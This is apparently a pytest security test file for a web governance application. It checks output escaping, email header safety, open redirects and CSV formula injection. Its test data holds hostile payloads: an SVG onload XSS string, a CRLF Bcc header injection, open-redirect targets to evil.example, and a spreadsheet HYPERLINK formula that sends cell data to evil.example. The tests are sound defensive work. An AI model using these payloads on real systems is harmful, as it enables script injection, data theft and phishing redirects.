"""ASVS V1.2.1 / V1.1.2 (row 19), V1.3.5 (row 17) and V1.2.2 (row 18): output encoding and sanitising.

- A hostile display name, register name, workgroup title, proposal title, comment and ballot question
  (``"><svg onload=alert(1)>``) is shown escaped on every page that shows it, and verbatim (as plain text, never
  as HTML) in the emails it appears in, whose headers it cannot break.
- Only an allow-list of places marks text as safe HTML (``|safe``, ``Markup(``, ``autoescape false``): each is
  listed here with its reason, so a new one fails until reviewed.
- The XSS corpus of shared/security, as the Markdown text of proposals, comes out of the proposal page clean (the
  renderer alone is tested on every line in tests/core/test_markdown.py).
- Redirects after sign-in and the language switch stay on the site.
"""
from __future__ import annotations

import importlib.util
import os
import re
from pathlib import Path

import pytest
from sqlalchemy import select

from tests.security.conftest import page_text, sign_in_as

HOSTILE = '"><svg onload=alert(1)>'
ESCAPED = "&#34;&gt;&lt;svg onload=alert(1)&gt;"
ROOT = Path(__file__).resolve().parents[2]
SECURITY_DIR = Path(os.environ.get("SECURITY_CORPUS", ROOT.parent / "shared" / "security"))

#: every place that may mark text as HTML, with the reason it is safe
SAFE_HTML_ALLOWED = {
    "governance/core/markdown.py": "render_markdown: Markup only around nh3's sanitised output; render_plain "
                                   "escapes each line",
    "governance/search/queries.py": "marked(): escapes every piece of text, adds only <mark> elements",
    "governance/search/indexing.py": "html.unescape() of sanitised Markdown output, to index plain text; shown "
                                     "only through marked(), which escapes it",
}


def _contains_hostile_markup(page: str) -> bool:
    return re.search(r"<svg", page, re.I) is not None or "onload=alert(1)>" in page.replace(ESCAPED, "")


def test_only_reviewed_places_mark_text_as_html():
    found = {}
    for path in sorted((ROOT / "governance").rglob("*")):
        rel = path.relative_to(ROOT).as_posix()
        if path.suffix not in {".py", ".html", ".txt"} or "migrations" in rel:
            continue
        text = path.read_text(encoding="utf-8")
        hits = re.findall(r"\|\s*safe\b|Markup\(|autoescape\s+false|\.unescape\(", text)
        if hits:
            found[rel] = hits
    assert set(found) <= set(SAFE_HTML_ALLOWED), {k: v for k, v in found.items() if k not in SAFE_HTML_ALLOWED}


@pytest.fixture
def hostile(db, world, create_account, make_workgroup, make_ballot, open_ballot, mship):
    """A member, a workgroup, a proposal, a comment and a ballot, each named with the hostile text."""
    from governance.proposals import operations as proposal_ops
    from governance.proposals.models import ProposalState

    person = world.commenter
    person.display_name = HOSTILE
    person.member.last_name = HOSTILE
    workgroup = make_workgroup(title=HOSTILE, branches=[world.be], joining="moderated",
                               facilitators=[world.facilitator], members=[person])
    from tests.proposals.conftest import Group

    group = Group(workgroup, person, None, world.facilitator, [])
    proposal = proposal_ops.create_proposal(workgroup, actor=person, membership=mship(workgroup, person),
                                            titles={"en": HOSTILE}, bodies={"en": HOSTILE},
                                            original_language="en")
    proposal_ops.change_state(proposal, ProposalState.discussion, actor=person, membership=mship(workgroup, person))
    proposal_ops.edit_proposal(proposal, actor=person, membership=mship(workgroup, person),
                               titles={"en": HOSTILE + " v2"}, bodies={"en": HOSTILE + "\n\nv2"},
                               original_language="en")
    comment = proposal_ops.add_comment(world.proposal, HOSTILE, actor=person,
                                       membership=mship(world.workgroup, person))
    ballot = open_ballot(make_ballot(branches=[world.be], questions={"en": HOSTILE, "nl": HOSTILE, "fr": HOSTILE},
                                     descriptions={"en": HOSTILE}))
    db.session.commit()
    return type("Hostile", (), {"person": person, "workgroup": workgroup, "proposal": proposal,
                                "comment": comment, "ballot": ballot, "group": group})


def test_hostile_names_and_titles_are_escaped_on_every_page(client, world, hostile):
    wg = hostile.workgroup.slug
    proposal = f"/workgroups/{wg}/proposals/{hostile.proposal.id}"
    pages = {
        world.facilitator: [f"/workgroups/{wg}", f"/workgroups/{wg}/members", "/workgroups/", f"{proposal}",
                            f"{proposal}/changes", f"/workgroups/{world.workgroup.slug}/proposals/{world.proposal.id}",
                            "/search?q=svg", "/ballots/", f"/ballots/{hostile.ballot.id}", "/"],
        world.author: ["/notifications/", "/"],
        world.admin: ["/account/roles?q=svg", f"/account/roles/{hostile.person.id}",
                      f"/register/members/{hostile.person.member.id}", "/register/?q=svg",
                      f"/ballots/{hostile.ballot.id}/close"],
        hostile.person: ["/account/profile", "/", "/account/export"],
    }
    shown = 0
    for reader, urls in pages.items():
        sign_in_as(client, reader)
        for url in urls:
            response = client.get(url)
            assert response.status_code == 200, url
            page = page_text(response)
            assert not _contains_hostile_markup(page), url
            shown += ESCAPED in page or "&lt;svg" in page
    assert shown >= 15  # the text is there, escaped, on nearly every page


def test_the_personal_data_export_is_json_not_html(client, hostile):
    sign_in_as(client, hostile.person)
    response = client.post("/account/export")
    assert response.status_code == 200
    assert response.mimetype == "application/json" and "attachment" in response.headers["Content-Disposition"]
    assert response.headers["X-Content-Type-Options"] == "nosniff"
    assert HOSTILE.replace('"', '\\"') in response.get_data(as_text=True)


def test_emails_carry_hostile_names_as_plain_text_and_keep_their_headers(client, db, world, hostile, outbox):
    """The join request of a member named ``"><svg …>`` to a workgroup with that title, as its facilitator gets it."""
    from governance.core.outbox import build_email

    requester = world.be_outsider
    requester.member.first_name = "Eve\r\nBcc: everyone@example.org"
    requester.member.last_name = HOSTILE
    db.session.commit()
    sign_in_as(client, requester)
    assert client.post(f"/workgroups/{hostile.workgroup.slug}/join").status_code == 303
    [message] = [m for m in outbox(world.facilitator.email) if "asks to join" in m.subject]
    assert message.body_html is None  # plain text only: nothing for a mail client to interpret as HTML
    assert HOSTILE in message.body_text and HOSTILE in message.subject
    assert "&lt;" not in message.body_text and "&#34;" not in message.subject  # not HTML-escaped into nonsense
    email = build_email(message)
    assert email.get_content_type() == "text/plain" and not email.is_multipart()
    assert email["Bcc"] is None and "\n" not in email["Subject"]
    assert "everyone@example.org" not in str(email["To"])


def _oracle():
    path = SECURITY_DIR / "md_xss_oracle.py"
    if not path.exists():
        if os.environ.get("CI"):
            pytest.fail(f"the security corpus is missing at {SECURITY_DIR}")
        pytest.skip(f"the security corpus is not at {SECURITY_DIR}")
    spec = importlib.util.spec_from_file_location("md_xss_oracle", path)
    module = importlib.util.module_from_spec(spec)
    spec.loader.exec_module(module)
    return module


def test_the_xss_corpus_in_proposals_comes_out_of_the_page_clean(client, db, world, mship):
    """Each payload file is the text of a proposal (and its first lines a comment); the part of the proposal page
    between two markers holds no dangerous element, attribute or URL scheme."""
    from governance.proposals import operations as proposal_ops
    from governance.proposals.models import ProposalState

    oracle = _oracle()
    author = world.group.members[2]
    membership = mship(world.workgroup, author)
    checked = 0
    for path in sorted((SECURITY_DIR / "payloads").glob("*.txt")):
        if path.name.startswith("eventnames__") or path.name == "SOURCES.txt":
            continue
        text = path.read_text(encoding="utf-8", errors="replace")[:proposal_ops.BODY_MAX - 100]
        body = f"MARKERSTART\n\n{text}\n\nMARKEREND"
        proposal = proposal_ops.create_proposal(world.workgroup, actor=author, membership=membership,
                                                titles={"en": path.stem[:100]}, bodies={"en": body},
                                                original_language="en")
        proposal_ops.change_state(proposal, ProposalState.discussion, actor=author, membership=membership)
        proposal_ops.add_comment(proposal, f"MARKERSTART\n\n{text[:5000]}\n\nMARKEREND", actor=author,
                                 membership=membership)
        db.session.commit()
        sign_in_as(client, author) if checked == 0 else None
        page = page_text(client.get(f"/workgroups/{world.workgroup.slug}/proposals/{proposal.id}"))
        parts = re.findall(r"<p>MARKERSTART</p>(.*?)<p>MARKEREND</p>", page, re.S)
        assert len(parts) == 2, path.name  # the text and the comment
        for part in parts:
            assert not oracle.problems(part), (path.name, oracle.problems(part)[:5])
        checked += 1
    assert checked >= 10


@pytest.mark.parametrize("target", ["https://evil.example/", "//evil.example/", "/\\evil.example", "\\\\evil.example",
                                    "http:evil.example", "javascript:alert(1)", "/\r\nLocation: https://evil",
                                    " //evil.example", "\t//evil.example", "///evil.example", "/\t/evil.example"])
def test_redirects_stay_on_the_site(client, world, target):
    """V3.7.2: after signing in, and after switching the language, ``next`` is followed only to a path of the site."""
    response = client.post("/account/sign-in", data={"email": world.author.email, "password": "correct horse battery "
                                                     "staple", "next": target})
    assert response.status_code == 302
    assert response.headers["Location"] == "/"
    response = client.post("/language", data={"language": "fr", "next": target})
    assert response.status_code == 303 and response.headers["Location"] == "/"
    response = client.get("/account/sign-in", query_string={"next": target})  # already signed in: home
    assert response.headers.get("Location", "/") == "/"


def test_a_notification_link_is_only_ever_a_path_of_the_site(db, world):
    from governance.core.errors import DomainError
    from governance.notifications import operations as notification_ops
    from governance.notifications.models import Notification

    before = db.session.execute(select(Notification.id)).all()
    for link in ("https://evil.example/", "//evil.example", "javascript:alert(1)"):
        with pytest.raises((DomainError, ValueError)):
            notification_ops.notify([world.author], "proposal.comment", {}, link)
    assert db.session.execute(select(Notification.id)).all() == before


FORMULA = '=HYPERLINK("https://evil.example/?"&A1,"Click")'


def test_ballot_csv_downloads_hold_no_spreadsheet_formula(client, db, world, make_ballot, open_ballot, close):
    import csv
    import io

    labels = {code: FORMULA for code in ("en", "nl", "fr")}
    ballot = open_ballot(make_ballot(method="plurality", branches=[world.be], is_secret=False,
                                     options=[labels, {"en": "Ben", "nl": "Ben", "fr": "Ben"}]))
    world.commenter.member.last_name = "=1+1"
    db.session.commit()
    sign_in_as(client, world.commenter)
    assert client.post(f"/ballots/{ballot.id}/vote/confirm", data={"vote": str(ballot.options[0].id),
                                                                   "confirm": "1"}).status_code == 303
    close(ballot)
    db.session.commit()
    cells = []
    for kind in ("ballots.csv", "roll-call.csv", "results.csv"):
        response = client.get(f"/ballots/{ballot.id}/download/{kind}")
        assert response.status_code == 200, kind
        cells += [(kind, cell) for row in csv.reader(io.StringIO(response.get_data(as_text=True))) for cell in row]
    formulas = [(kind, cell) for kind, cell in cells if cell[:1] in ("=", "+", "-", "@", "\t", "\r")
                and not re.fullmatch(r"-?\d+(\.\d+)?", cell)]
    assert not formulas, formulas
